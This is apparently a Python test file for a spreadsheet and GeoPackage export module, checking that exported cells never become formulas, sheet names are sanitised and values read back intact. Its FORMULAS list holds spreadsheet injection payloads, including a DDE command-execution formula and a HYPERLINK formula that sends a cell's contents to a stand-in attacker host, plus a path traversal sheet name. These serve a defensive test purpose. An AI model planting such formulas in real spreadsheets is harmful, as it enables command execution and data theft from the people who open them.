"""Tables handed out: re-opened, what was written is there, and nothing in it runs."""

import csv
import datetime as dt
import io
import math
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geo.errors import SettingError, WriteError
from geo.spreadsheets import (
    Table,
    clean_cell,
    csv_bytes,
    distinct_names,
    workbook_bytes,
    write_tables,
)
from geo.text import formula_restored

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/"&A1)',
    "+855 23 211 900",
    "-2-3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
]
SIGNS = tuple("=+-@\t\r＝＋－＠")
DAY = dt.date(2025, 10, 18)
INSTANT = dt.datetime(2025, 10, 18, 2, 30)  # noqa: DTZ001 - a clock on the wall
CELLS = ["001", "NA", "plain", "프놈펜 ភ្នំពេញ", "two\nlines", '"double", comma; semicolon', "#N/A"]


def sheets(content: bytes) -> dict[str, list[list[Any]]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in book.worksheets
    }


def lines(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text: str) -> None:
    """B10, B11: as a cell and as the name of a column."""
    table = Table("t", (text,), ((text,), (-1.5,)))
    for (said,) in lines(csv_bytes(table))[:2]:
        assert said.startswith("'")
        assert not said.lstrip(" \n").startswith(SIGNS)
        assert formula_restored(said) == text.replace("\r", "\n")
    assert lines(csv_bytes(table))[2] == ["-1.5"]
    (sheet,) = openpyxl.load_workbook(io.BytesIO(workbook_bytes([table]))).worksheets
    for row in (1, 2):
        cell = sheet.cell(row, 1)
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
        assert cell.value == text.replace("\r", "\n")
    assert (sheet.cell(3, 1).data_type, sheet.cell(3, 1).value) == ("n", -1.5)


def test_no_part_of_a_workbook_holds_a_formula() -> None:
    content = workbook_bytes([Table(text, (text,), ((text,),)) for text in FORMULAS])
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = [book.read(name) for name in book.namelist() if "worksheets" in name]
    assert len(parts) == len(FORMULAS)
    assert not any(b"<f>" in part or b"<f " in part for part in parts)


@settings(max_examples=30, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.text(st.characters(codec="utf-8", exclude_categories=["Cc"]), max_size=20),
            st.integers(-(2**53), 2**53),
            st.floats(-1e300, 1e300),
            st.booleans(),
            st.dates(dt.date(1900, 3, 1), dt.date(9999, 12, 31)),
        ),
        max_size=5,
    )
)
def test_what_is_written_reads_back(rows: list[tuple[Any, ...]]) -> None:
    table = Table("t", ("text", "count", "size", "is_so", "day"), rows)
    (found,) = sheets(workbook_bytes([table])).values()
    assert [row[0] or "" for row in found[1:]] == [
        row[0].replace("\ufffe", "").replace("\uffff", "") for row in rows
    ]
    for got, row in zip(found[1:], rows, strict=True):
        assert got[1] == row[1]
        assert math.isclose(got[2], row[2], rel_tol=1e-15, abs_tol=0.0) or got[2] == row[2]
        assert got[3] is row[3]
        assert got[4].date() == row[4]
    for cells, row in zip(lines(csv_bytes(table))[1:], rows, strict=True):
        assert formula_restored(cells[0]) == row[0].replace("\ufffe", "").replace("\uffff", "")
        assert (int(cells[1]), float(cells[2])) == (row[1], row[2])
        assert cells[3:] == [str(row[3]).lower(), row[4].isoformat()]


def test_values_of_every_kind(tmp_path: Path) -> None:
    aware = INSTANT.replace(tzinfo=dt.UTC)
    values = [DAY, INSTANT, aware, dt.date(1850, 1, 1), dt.time(2, 30), None, np.int64(3), np.nan]
    values += [np.datetime64("2025-10-18T02:30"), pd.NaT, pd.NA, 2**60, "a\x00\x0b\x7f\x85b", True]
    (found,) = sheets(workbook_bytes([Table("t", ("x",), [(value,) for value in values])])).values()
    midnight = dt.datetime(2025, 10, 18)  # noqa: DTZ001
    assert [row[0] for row in found[1:]] == [
        midnight, INSTANT, "2025-10-18T02:30:00+00:00", "1850-01-01", "02:30:00", None, 3, None,
        INSTANT, None, None, str(2**60), "ab", True,
    ]  # fmt: skip
    said = [row[0] for row in lines(csv_bytes(Table("t", ("x",), [(value,) for value in values])))]
    assert said[1:] == [
        "2025-10-18", "2025-10-18T02:30:00", "2025-10-18T02:30:00+00:00", "1850-01-01", "02:30:00",
        "", "3", "", "2025-10-18T02:30:00", "", "", str(2**60), "ab", "true",
    ]  # fmt: skip


def test_a_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    (found,) = sheets(workbook_bytes([Table("t", ("x",), [("가" * 40_000,)])])).values()
    assert len(found[1][0]) == 32_767
    assert found[1][0].endswith("…")
    assert len(lines(csv_bytes(Table("t", ("x",), [("가" * 40_000,)])))[1][0]) == 40_000


@pytest.mark.parametrize(
    "name",
    [
        "",
        "  ",
        "a/b\\c?d*e:f[g]",
        "'=1+1'",
        "x" * 200,
        "History",
        "../../etc/x",
        "a\x00b\u202ec",
        "가" * 40,
    ],
)
def test_names_of_sheets_are_harmless(name: str, tmp_path: Path) -> None:
    tables = [Table(name, ("x",), ((1,),)), Table(name.upper(), ("x",), ((2,),))]
    found = sheets(workbook_bytes(tables))
    assert [rows[1][0] for rows in found.values()] == [1, 2]
    assert len({title.lower() for title in found}) == 2
    for title in found:
        assert 0 < len(title) <= 31
        assert not set(title) & set("[]:*?/\\\x00\u202e")
        assert title == title.strip("'")
        assert title.lower() != "history"
    write_tables(tables, tmp_path / "t.zip")
    with zipfile.ZipFile(tmp_path / "t.zip") as archive:
        assert [lines(archive.read(member))[1] for member in archive.namelist()] == [["1"], ["2"]]
        assert not any("/" in member or member.startswith(".") for member in archive.namelist())


@given(st.lists(st.text(max_size=40), max_size=8))
def test_names_are_never_the_same(names: list[str]) -> None:
    made = distinct_names(names)
    assert len({name.lower() for name in made}) == len(names)
    assert all(0 < len(name) <= 31 for name in made)


def test_points_and_plain_tables_of_a_geopackage(tmp_path: Path) -> None:
    places = Table(
        "gaps",
        ("id", "lat", "lon", "minutes", "since", "when", "is_open", "fid", "ID"),
        (
            ("a", 11.5, 104.9, 17, DAY, INSTANT, True, "=1+1", 1.5),
            ("b", None, None, None, None, None, None, None, 2),
        ),
    )
    plain = Table(
        "sqlite_causes", ("cause", "mixed", "none"), (("too far", 1, None), ("x", "y", None))
    )
    path = tmp_path / "t.gpkg"
    write_tables([places, plain, Table("no rows", ("lat", "lon"), ())], path)
    assert [tuple(row) for row in pyogrio.list_layers(path)] == [
        ("gaps", "Point"), ("_sqlite_causes", None), ("no rows", None),
    ]  # fmt: skip
    found = pyogrio.read_dataframe(path, layer="gaps")
    assert found.crs.to_epsg() == 4326
    first, second = found.to_dict("records")
    assert (first["geometry"].x, first["geometry"].y, second["geometry"]) == (104.9, 11.5, None)
    assert (first["id"], first["minutes"], first["fid_"], first["is_open"]) == (
        "a",
        17,
        "=1+1",
        True,
    )
    assert (first["since"].date(), first["when"]) == (DAY, INSTANT)
    assert first["ID (2)"] == 1.5
    info = pyogrio.read_info(path, layer="gaps")
    kinds = dict(zip(info["fields"], info["ogr_types"], strict=True))
    assert (kinds["minutes"], kinds["since"], kinds["when"]) == (
        "OFTInteger64", "OFTDate", "OFTDateTime",
    )  # fmt: skip
    rest = pyogrio.read_dataframe(path, layer="_sqlite_causes")
    assert rest["mixed"].tolist() == ["1", "y"]
    assert rest["none"].isna().all()


@pytest.mark.parametrize("name", ["t.xlsx", "t.csv", "t.zip", "t.gpkg", "T.XLSX"])
def test_a_file_is_there_whole_or_not_at_all(name: str, tmp_path: Path) -> None:
    table = Table("t", ("x",), ((1,),))
    write_tables([table], tmp_path / name)
    before = (tmp_path / name).read_bytes()
    assert before
    assert [path.name for path in tmp_path.iterdir()] == [name]
    with pytest.raises(WriteError):
        write_tables([table], tmp_path / "no such folder" / name)


@pytest.mark.parametrize(
    ("tables", "name", "says"),
    [
        ([Table("t", ("x",), ())], "t.pdf", r"\.xlsx, \.csv, \.zip, \.gpkg"),
        ([Table("t", ("x",), ())], "noending", "end its name"),
        ([], "t.xlsx", "no table"),
        ([Table("t", ("x",), ())] * 2, "t.csv", "end its name with .zip"),
        ([Table("t", ("x",) * 16_385, ())], "t.xlsx", "a sheet holds"),
    ],
)
def test_what_cannot_be_written_is_refused(
    *, tables: list[Table], name: str, says: str, tmp_path: Path
) -> None:
    with pytest.raises(SettingError, match=says):
        write_tables(tables, tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_a_ragged_table_is_refused() -> None:
    with pytest.raises(SettingError, match="row 2 has not 1 cells"):
        Table("t", ("x",), ((1,), (1, 2)))


def test_a_clean_cell_stays_clean() -> None:
    for value in [*FORMULAS, *CELLS, DAY, INSTANT, 1, 1.5, None, True]:
        once = clean_cell(value)
        assert clean_cell(once) == once
